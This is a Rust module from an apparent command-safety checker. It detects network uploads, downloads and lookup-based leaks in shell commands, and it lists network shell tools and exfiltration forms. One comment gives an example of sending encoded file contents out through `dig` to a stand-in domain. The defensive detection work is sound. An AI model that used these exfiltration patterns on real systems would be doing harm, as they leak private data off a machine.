//! The network: downloaders (what they save is remembered, so running it later is caught) and
//! uploads — a local file sent with `curl -d @file`/`-F x=@file`/`-T`, `wget --post-file`,
//! `scp`/`rsync` to a remote, or anything through `nc`, `socat`, `sftp`, or `ssh` fed local data.

use super::Access::{self, Read, Write};
use super::args::{self, Arg};
use super::command::Run;
use super::expand::Field;
use super::{paths, remote};

const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "aria2c", "http", "https", "xh"];

const NAMES: &[&str] = &[
    "curl", "wget", "scp", "rsync", "sftp", "ftp", "nc", "ncat", "netcat", "socat", "telnet", "ssh",
];

const CURL_VALUED: &[&str] = &[
    "-A",
    "-b",
    "-c",
    "-C",
    "-d",
    "-D",
    "-e",
    "-E",
    "-F",
    "-H",
    "-K",
    "-m",
    "-o",
    "-P",
    "-Q",
    "-r",
    "-t",
    "-T",
    "-u",
    "-U",
    "-w",
    "-x",
    "-X",
    "-y",
    "-Y",
    "-z",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-ascii",
    "--data-urlencode",
    "--json",
    "--form",
    "--form-string",
    "--upload-file",
    "--output",
    "--output-dir",
    "--config",
    "--cookie",
    "--cookie-jar",
    "--dump-header",
    "--header",
    "--request",
    "--user",
    "--user-agent",
    "--referer",
    "--proxy",
    "--max-time",
    "--connect-timeout",
    "--retry",
    "--cacert",
    "--capath",
    "--cert",
    "--key",
    "--url",
    "--write-out",
    "--range",
    "--limit-rate",
    "--resolve",
    "--interface",
    "--netrc-file",
    "--trace",
    "--trace-ascii",
    "--stderr",
    "--etag-save",
    "--etag-compare",
];

const WGET_VALUED: &[&str] = &[
    "-O",
    "-o",
    "-a",
    "-P",
    "-i",
    "-e",
    "-U",
    "-t",
    "-T",
    "-w",
    "-Q",
    "-l",
    "-A",
    "-R",
    "-D",
    "-I",
    "-X",
    "-B",
    "--output-document",
    "--output-file",
    "--append-output",
    "--directory-prefix",
    "--input-file",
    "--post-file",
    "--body-file",
    "--post-data",
    "--body-data",
    "--header",
    "--user-agent",
    "--tries",
    "--timeout",
    "--load-cookies",
    "--save-cookies",
    "--certificate",
    "--private-key",
    "--ca-certificate",
    "--user",
    "--password",
    "--method",
];

/// Tools that send their arguments to another machine (a name to resolve, a host to reach):
/// a command's output put into one leaves the machine (`dig $(cat f | base64).example.com`).
const LOOKUPS: &[&str] = &[
    "dig",
    "nslookup",
    "host",
    "drill",
    "ping",
    "ping6",
    "traceroute",
    "whois",
];

pub(super) fn handles(name: &str) -> bool {
    NAMES.contains(&name) || LOOKUPS.contains(&name)
}

pub(super) fn is_downloader(name: &str) -> bool {
    DOWNLOADERS.contains(&name)
}

pub(super) fn run(run: &mut Run, at: usize, name: &str) {
    let substituted = run
        .fields
        .iter()
        .skip(at + 1)
        .find(|f| f.text.contains("$(") || f.text.contains('`') || f.text.contains("<("));
    if let Some(field) = substituted {
        let (shown, word) = (run.shown(at), field.text.clone());
        upload(
            run,
            format!("`{shown}` sends the output of a command (`{word}`) to another machine."),
        );
    }
    match name {
        n if LOOKUPS.contains(&n) => {}
        "curl" => curl(run, at),
        "wget" => wget(run, at),
        "scp" | "rsync" => remote::copy(run, at, name),
        "ssh" => remote::ssh(run, at),
        _ => {
            let shown = run.shown(at);
            upload(
                run,
                format!("`{shown}` can send local data to the network."),
            );
        }
    }
}

pub(super) fn upload(run: &mut Run, reason: String) {
    run.escalate("network.upload", reason);
}

/// The path after `sep` in an option value (`@file`, `name=@file;type=x`).
fn after(f: &Field, sep: &str) -> Option<Field> {
    match f.value() {
        Some(v) => {
            let rest = &v[v.find(sep)? + sep.len()..];
            let path = rest.split(';').next().unwrap_or(rest);
            Some(Field::known(f.word, path, path))
        }
        None => Some(f.clone()),
    }
}

/// Options with values, as `(name, field index, value)`.
pub(super) fn options(parsed: &[Arg]) -> Vec<(String, usize, Field)> {
    parsed
        .iter()
        .filter_map(|a| match a {
            Arg::Opt(o) => o
                .value
                .as_ref()
                .map(|(i, f)| (o.name.clone(), *i, f.clone())),
            Arg::Operand(_) => None,
        })
        .collect()
}

fn curl(run: &mut Run, at: usize) {
    let (parsed, _) = args::parse(&run.fields, at + 1, CURL_VALUED, false);
    let shown = run.shown(at);
    for (name, i, f) in options(&parsed) {
        let v = f.value().unwrap_or("").to_string();
        let sent = match name.as_str() {
            "-d" | "--data" | "--data-binary" | "--data-ascii" | "--json"
                if v.starts_with('@') && v != "@-" =>
            {
                after(&f, "@")
            }
            "--data-urlencode" if v.contains('@') && !v.ends_with("@-") => after(&f, "@"),
            "-F" | "--form" if v.contains("=@") => after(&f, "=@"),
            "-F" | "--form" if v.contains("=<") => after(&f, "=<"),
            "-T" | "--upload-file" if v != "-" => Some(f.clone()),
            "-d" | "--data" | "--data-binary" | "--data-ascii" | "--json" | "--data-urlencode"
            | "-T" | "--upload-file"
                if v == "-" || v.ends_with("@-") =>
            {
                upload(
                    run,
                    format!("`{shown}` sends what it reads from its input."),
                );
                continue;
            }
            _ => None,
        };
        if let Some(file) = sent {
            run.touch_field(i, &file, Read);
            upload(
                run,
                format!("`{shown}` sends the local file `{}`.", file.text),
            );
            continue;
        }
        let access: Option<Access> = match name.as_str() {
            "-o" | "--output" if v != "-" => {
                saved(run, i, &f);
                None
            }
            "--output-dir" | "-c" | "--cookie-jar" | "--trace" | "--trace-ascii" | "--stderr"
            | "--etag-save" => Some(Write),
            "-D" | "--dump-header" if v != "-" => Some(Write),
            "-K" | "--config" | "--cacert" | "--cert" | "--key" | "--netrc-file"
            | "--etag-compare" => Some(Read),
            "-b" | "--cookie" if !v.contains('=') => Some(Read),
            _ => None,
        };
        if let Some(access) = access {
            run.touch_field(i, &f, access);
        }
    }
    if args::has(&parsed, &["-O", "--remote-name", "--remote-name-all"]) {
        remote_names(run, &args::operands(&parsed));
    }
}

/// A downloader saves to `field`: a write, remembered so that running it later is caught.
fn saved(run: &mut Run, i: usize, field: &Field) {
    if let Some(path) = run.touch_field(i, field, Write) {
        run.ctx.downloaded.push(path);
    }
}

/// `curl -O URL`, `wget URL`: the file is named after the URL, in the working directory.
fn remote_names(run: &mut Run, urls: &[usize]) {
    for &u in urls {
        let Some(url) = run.value(u).filter(|v| paths::is_url(v)) else {
            continue;
        };
        let path = url.split(['?', '#']).next().unwrap_or(url);
        let name = path.trim_end_matches('/').rsplit('/').next().unwrap_or("");
        if name.is_empty() || path.ends_with("//") || !path.contains("//") {
            continue;
        }
        let field = Field::known(run.fields[u].word, name, name);
        saved(run, u, &field);
    }
}

fn wget(run: &mut Run, at: usize) {
    let (parsed, _) = args::parse(&run.fields, at + 1, WGET_VALUED, false);
    let shown = run.shown(at);
    let mut named = false;
    for (name, i, f) in options(&parsed) {
        let v = f.value().unwrap_or("");
        let access = match name.as_str() {
            "-O" | "--output-document" => {
                named = true;
                if v != "-" {
                    saved(run, i, &f);
                }
                None
            }
            "--post-file" | "--body-file" => {
                run.touch_field(i, &f, Read);
                upload(run, format!("`{shown}` sends the local file `{}`.", f.text));
                None
            }
            "-P" | "--directory-prefix" | "-o" | "-a" | "--output-file" | "--append-output"
            | "--save-cookies" => Some(Write),
            "-i" | "--input-file" if v != "-" => Some(Read),
            "--load-cookies" | "--certificate" | "--private-key" | "--ca-certificate" => Some(Read),
            _ => None,
        };
        if let Some(access) = access {
            run.touch_field(i, &f, access);
        }
    }
    if !named {
        remote_names(run, &args::operands(&parsed));
    }
}
